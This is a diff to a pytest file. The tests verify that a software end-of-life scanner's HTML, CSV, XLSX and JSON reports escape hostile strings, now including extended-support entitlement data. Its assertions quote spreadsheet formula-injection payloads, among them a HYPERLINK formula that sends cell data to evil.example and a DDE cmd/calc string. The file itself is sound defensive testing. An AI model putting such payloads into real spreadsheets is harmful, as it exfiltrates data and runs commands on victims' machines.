@@ -26,6 +26,7 @@ from agents.inventory import Hardware, Host, Inventory, OsInfo
 from scanner.exceptions import Register, RiskException
 from scanner.match import HostResult
 from scanner.model import Finding, MatchDetail, Status
+from scanner.plan import EntitlementPrice, ReportConfig
 from scanner.rank import EstateReport, build_report
 from scanner.store import HostStatus
 
@@ -62,7 +63,15 @@ def _estate() -> EstateReport:
                        eol=date(2025, 10, 14), extended_until=None, detail=detail, product_label=evil, **base)
         app = Finding(kind="software", name=evil, version=evil, product=evil, cycle=evil, status=Status.EOL,
                       eol=date(2024, 1, 1), extended_until=None, detail=detail, product_label=evil, **base)
-        results.append(HostResult(inventory=inv, findings=[os_f, app]))
+        # an application kept on a paid extended phase: its entitlement's texts come from the catalogue
+        ext = Finding(kind="software", name=evil, version=evil, product=f"p{i}", cycle=evil,
+                      status=Status.EXTENDED, eol=date(2024, 1, 1), extended_until=date(2027, 1, 1), detail=detail,
+                      product_label=evil, **base)
+        results.append(HostResult(inventory=inv, findings=[os_f, app, ext]))
+    prices = tuple(EntitlementPrice(keys=frozenset({f"p{i}"}), name=evil, cost=10.0, unit="device/year",
+                                    yearly=10.0, per_device=i % 2 == 0, currency=evil[:8], reference=evil,
+                                    source=evil) for i, evil in enumerate(HOSTILE))
+    config = ReportConfig(entitlement_prices=prices, site_catalog=HOSTILE[1], site_catalog_sha256=HOSTILE[2])
     register = Register(path=HOSTILE[0], entries=[RiskException(
         id=f"EX-{j}", category="risk-accepted", justification=evil, owner=evil, approver=evil,
         approved_on=date(2026, 1, 1), expires=date(2027, 1, 1), product=HOSTILE[j],
@@ -71,7 +80,7 @@ def _estate() -> EstateReport:
     statuses = [HostStatus(target=evil, site=f"Site {evil[:40]}", status="unreachable", error=evil, at=evil,
                            last_ok_at=evil) for evil in HOSTILE]
     return build_report(results, statuses, date(2026, 11, 30), HOSTILE[2], HOSTILE[1], register=register,
-                        demo=HOSTILE[0])
+                        demo=HOSTILE[0], config=config)
 
 
 @pytest.fixture(scope="module")
@@ -113,6 +122,7 @@ def test_html_escapes_everything(report: EstateReport) -> None:
     assert "\u202e" not in page and "&lt;U+202E&gt;" in page  # bidi override shown, not obeyed
     assert "\x00" not in page and "\x1b" not in page
     assert "Content-Security-Policy" in page and "default-src 'none'" in page
+    assert "<h2>Replace or pay for extended support</h2>" in page  # the catalogue's texts went through it
 
 
 def test_csv_neutralises_formulas(report: EstateReport) -> None:
@@ -124,6 +134,8 @@ def test_csv_neutralises_formulas(report: EstateReport) -> None:
         assert "\x00" not in c
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
     assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    extended = rows[0].index("extended support")
+    assert any(row[extended].startswith("'=HYPERLINK") for row in rows[1:])
 
 
 def test_xlsx_reads_back_inert(report: EstateReport) -> None:
@@ -140,6 +152,7 @@ def test_xlsx_reads_back_inert(report: EstateReport) -> None:
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in seen
     assert any(v.startswith("'+cmd|") for v in seen)
     assert "x" * 5000 in seen and "😀 emoji ✓" in seen
+    assert wb["Extended support"].max_row > len(HOSTILE)  # entitlement names and references: inert too
     assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\") for title in wb.sheetnames)
 
 
@@ -147,6 +160,9 @@ def test_json_round_trips_exactly(report: EstateReport) -> None:
     data = json.loads(reports.json.render(report))
     names = {f["name"] for s in data["sites"] for h in s["hosts"] for f in h["findings"]}
     assert set(HOSTILE) <= names
+    assert {x["entitlement"] for x in data["extended_support"]} == set(HOSTILE)
+    assert {x["reference"] for x in data["extended_support"]} == set(HOSTILE)
+    assert data["evidence"]["site_catalog"] == {"file": HOSTILE[1], "sha256": HOSTILE[2]}
     assert data["demo"] == HOSTILE[0] and data["tool_version"] == HOSTILE[1]
 
 
